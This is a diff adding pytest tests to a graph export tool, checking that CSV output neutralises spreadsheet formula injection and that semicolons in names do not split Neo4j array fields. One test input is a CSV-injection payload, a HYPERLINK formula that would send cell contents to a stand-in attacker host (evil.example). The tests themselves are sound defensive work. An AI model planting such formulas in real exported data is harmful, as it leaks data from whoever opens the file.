@@ -115,3 +115,50 @@ def test_export_mistakes_are_clear(seeds_build, tmp_path):
         export_graph(tmp_path / "missing.ttl", "gexf", tmp_path / "x.gexf")
     result = runner.invoke(app, ["export", str(out / "graph.ttl"), "--format", "pdf", "--out", str(tmp_path / "x")])
     assert result.exit_code == 1 and "unknown export format" in result.output and "Traceback" not in result.output
+
+
+def hostile_graph():
+    """A graph whose names a spreadsheet would run and whose ``;`` Neo4j would split."""
+    from tipgraph.extractors.records import DocumentRecord, EntityRecord, Mention
+    from tipgraph.graph.model.rdf import corpus_to_rdf
+    from tipgraph.graph.resolve import resolve_corpus
+
+    def entity(key, label, cls):
+        return EntityRecord(key, label, cls, mentions=[Mention(label, 0, len(label))])
+
+    records = [
+        DocumentRecord(['=HYPERLINK("http://evil.example/?x="&A1,"open").txt'], "ab" * 32),
+        DocumentRecord(["memo; part 2.txt"], "cd" * 32),
+    ]
+    records[0].entities = [entity("e1", "Shelter Alliance; Hanoi Branch", "NGO"), entity("e2", "-Ministry", "Agency")]
+    records[1].entities = [entity("e1", "Shelter Alliance; Hanoi Branch", "NGO"), entity("e2", "@Sum Fund 100%", "NGO")]
+    return corpus_to_rdf(resolve_corpus(records))
+
+
+def test_csv_cells_are_never_formulas_and_arrays_never_split_inside_an_item(tmp_path):
+    import urllib.parse
+
+    export_graph(hostile_graph(), "csv", tmp_path)
+    with (tmp_path / "nodes.csv").open(encoding="utf-8", newline="") as handle:
+        nodes = list(csv.DictReader(handle))
+    cells = [cell for row in nodes for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], "a cell a spreadsheet runs as a formula"
+    alliance = next(row for row in nodes if "Shelter Alliance" in row["label"])
+    documents = alliance["documents:string[]"].split(";")
+    assert len(documents) == 2, "a ; inside a document name split the array"
+    assert {urllib.parse.unquote(d) for d in documents} == {
+        '\'=HYPERLINK("http://evil.example/?x="&A1,"open").txt',
+        "memo; part 2.txt",
+    }
+    assert {row["label"] for row in nodes} >= {"Shelter Alliance; Hanoi Branch", "'-Ministry", "'@Sum Fund 100%"}
+
+
+def test_export_to_an_existing_folder_names_the_folder(seeds_build, tmp_path):
+    _, out = seeds_build
+    folder = tmp_path / "exports"
+    folder.mkdir()
+    for fmt in ("gexf", "graphml", "jsonld"):
+        result = runner.invoke(app, ["export", str(out / "graph.ttl"), "--format", fmt, "--out", str(folder)])
+        assert result.exit_code == 1, result.output
+        assert f"{folder} is a folder" in result.output and ".tmp" not in result.output
+    assert list(folder.iterdir()) == []
